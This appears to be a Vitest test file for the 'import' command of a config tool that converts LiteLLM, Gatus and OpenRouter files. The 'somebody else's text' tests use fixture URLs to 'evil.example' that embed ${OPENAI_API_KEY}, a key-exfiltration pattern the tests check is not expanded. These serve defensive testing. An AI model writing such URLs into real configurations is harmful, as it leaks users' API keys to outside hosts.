import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { parseConfig } from '#lib/config/load.ts';
import { dispatch } from '../main.ts';

/** Through the command, to the end: what it prints is validated as the file it is meant to become. */

let cwd: string;
beforeEach(() => {
  cwd = mkdtempSync(join(tmpdir(), 'signalbox-moved-'));
});
afterEach(() => rmSync(cwd, { recursive: true, force: true }));

const env = {
  OPENROUTER_API_KEY: 'sk-or-v1-secret',
  OPENAI_API_KEY: 'sk-secret',
  ANTHROPIC_API_KEY: 'sk-ant-secret',
};

async function moved(name: string, text: string, ...options: string[]) {
  const said: string[] = [];
  const complained: string[] = [];
  const io = {
    out: (line: string) => void said.push(line),
    err: (line: string) => void complained.push(line),
    ...{ isTerminal: false, env, cwd, root: process.cwd() },
  };
  writeFileSync(join(cwd, name), text);
  const status = await dispatch(['import', name, ...options], io);
  const yaml = said.join('\n');
  writeFileSync(join(cwd, 'signalbox.yaml'), `${yaml}\n`);
  const flaws: string[] = [];
  const judge = {
    ...io,
    out: (line: string) => void flaws.push(line),
    err: (line: string) => void flaws.push(line),
  };
  expect(await dispatch(['validate'], judge), flaws.join('\n')).toBe(0);
  return {
    status,
    yaml,
    raw: parse(yaml) ?? {},
    config: parseConfig(yaml, env, null).config,
    left: complained.join('\n'),
  };
}

const litellm = `
model_list:
  - { model_name: gpt-4o, litellm_params: { model: openai/gpt-4o, api_key: os.environ/OPENAI_API_KEY } }
  - { model_name: gpt-4o-mini, litellm_params: { model: openai/gpt-4o-mini, api_key: os.environ/OPENAI_API_KEY } }
  - { model_name: gpt-4o-mini, litellm_params: { model: openai/gpt-4o-mini } }
  - { model_name: claude, litellm_params: { model: anthropic/claude-haiku-4-5 } }
  - { model_name: "openrouter/*", litellm_params: { model: "openrouter/*", api_key: os.environ/OPENROUTER_API_KEY } }
  - { model_name: odd, litellm_params: { model: openai/x, api_base: "ftp://example.com" } }
  - { model_name: inside, litellm_params: { model: openai/llama, api_base: "http://me:s3cret@10.0.0.9:8000/v1", api_key: none } }
router_settings:
  routing_strategy: latency-based-routing
  num_retries: 2
  model_group_alias: { gpt-4: gpt-4o, small: { model: gpt-4o-mini, hidden: true }, gone: nowhere }
  fallbacks: [{ gpt-4o: [claude, openrouter/openai/gpt-5-mini] }, { small: [claude] }]
litellm_settings: { drop_params: true, default_fallbacks: [claude] }
general_settings: { master_key: sk-1234-s3cret, database_url: "postgres://u:s3cret@db/x" }
environment_variables: { REDIS_PASSWORD: s3cret }
include: [more.yaml]
`;

describe('a LiteLLM proxy', () => {
  it('comes along with every model it calls, aliases, wildcards and fallbacks', async () => {
    const { status, config, raw, left, yaml } = await moved('config.yaml', litellm);
    expect(status).toBe(1);
    expect(raw.providers.openai).toEqual({ key: '${OPENAI_API_KEY}', model: 'gpt-4o' });
    expect(raw.providers['openai-gpt-4o-mini']).toMatchObject({
      key: '${OPENAI_API_KEY}',
      model: 'gpt-4o-mini',
    });
    expect(Object.keys(config.providers)).toEqual(['openai', 'openai-gpt-4o-mini', 'anthropic', 'inside']);
    expect(config.providers.inside?.base_url).toBe('http://10.0.0.9:8000/v1');
    expect(config.gateways.openrouter?.routes).toEqual([{ provider: 'any', model: 'openai/gpt-5-mini' }]);
    expect(config.chains).toMatchObject({
      'gpt-4o': [
        'direct/openai/gpt-4o',
        'direct/anthropic/claude-haiku-4-5',
        'openrouter/any/openai/gpt-5-mini',
      ],
      small: ['direct/openai-gpt-4o-mini/gpt-4o-mini', 'direct/anthropic/claude-haiku-4-5'],
      'gpt-4': ['direct/openai/gpt-4o', 'direct/anthropic/claude-haiku-4-5'],
    });
    for (const word of [
      'api_base is no http',
      '"gone": nowhere',
      'routing_strategy, num_retries',
      'general_settings',
      'environment_variables',
      'include: import those files',
      'its key stands in the file',
      'name and password',
    ])
      expect(left).toContain(word);
    expect(yaml + left).not.toContain('s3cret');
  });
});

describe('somebody else’s text', () => {
  it.each([
    [
      'config.yaml',
      'model_list:\n  - { model_name: x, litellm_params: { model: openai/m, api_base: "https://evil.example/${OPENAI_API_KEY}" } }',
    ],
    [
      'gatus.yaml',
      'endpoints:\n  - { name: x, url: "https://evil.example/?k=${OPENAI_API_KEY}", conditions: ["[BODY] == pat(*${OPENAI_API_KEY}*)"] }',
    ],
  ])('never fetches a key of this machine: %s', async (name, text) => {
    const { config } = await moved(name, text);
    const said = JSON.stringify(config);
    expect(said).toContain('evil.example');
    expect(said).not.toContain('sk-secret');
    expect(said).toContain('${OPENAI_API_KEY}');
  });
});

describe('Gatus', () => {
  it('is taken along with what has a counterpart, and everything else is named', async () => {
    const { config, left, yaml } = await moved(
      'gatus.yaml',
      `
storage: { type: sqlite, path: /data/data.db }
external-endpoints: [{ name: ext, token: s3cret }]
endpoints:
  - { name: API, group: core, url: "https://me:s3cret@api.example.com/health", interval: 30s, client: { insecure: true }, conditions: ["[STATUS] == any(200, 204)", "[CONNECTED] == true", "len([BODY].items) > 3", "[CERTIFICATE_EXPIRATION] > 48h"] }
  - { name: API, group: core, url: "https://api.example.com/two", interval: 1000h }
  - { name: tcp, url: "tcp://example.com:22", conditions: ["[CONNECTED] == true"] }
alerting: { slack: { webhook-url: "https://hooks.slack.com/s3cret" } }
`,
    );
    expect(config.http.map(({ name, every }) => [name, every])).toEqual([
      ['core-api', 30_000],
      ['core-api-2', 604_800_000],
    ]);
    expect(config.http[0]?.expect).toEqual({ status: [200, 204], certificate_days: 2 });
    for (const word of [
      'storage',
      'external-endpoints',
      'its client',
      'len([BODY].items)',
      'tcp://',
      'becomes 168h',
      'slack',
      'name and password',
    ])
      expect(left).toContain(word);
    expect(yaml + left).not.toContain('s3cret');
  });
});

describe('the activity of OpenRouter', () => {
  const head =
    'generation_id,created_at,cost_total,cost_web_search,cost_cache,byok_usage_inference,tokens_prompt,tokens_completion,model_permaslug,provider_name,variant,app_name';
  const row = (model: string, usd: number, variant = 'standard') =>
    `gen-1,2026-11-01 10:00:00,${usd},0,0,0,10,5,${model},Anthropic,${variant},"My app, ""two"""`;

  it('names the models somebody uses by cost, as the export calls them', async () => {
    const lines = [
      row('openai/gpt-5-mini-2025-08-07', 0.1),
      row('anthropic/claude-4.5-haiku-20251001', 3),
      row('openai/gpt-5-mini-2025-08-07', 0.2),
    ];
    const { config, status } = await moved('activity.csv', `\uFEFF${[head, ...lines].join('\r\n')}\r\n`);
    expect(status).toBe(0);
    expect(config.gateways.openrouter?.watch).toEqual([
      'anthropic/claude-4.5-haiku-20251001',
      'openai/gpt-5-mini-2025-08-07',
    ]);
  });

  it('keeps the free variant apart, because it is served by others', async () => {
    const { config } = await moved(
      'activity.csv',
      [head, row('meta-llama/llama-3.3-70b-instruct', 0, 'free')].join('\n'),
    );
    expect(config.gateways.openrouter?.watch).toEqual(['meta-llama/llama-3.3-70b-instruct:free']);
  });
});
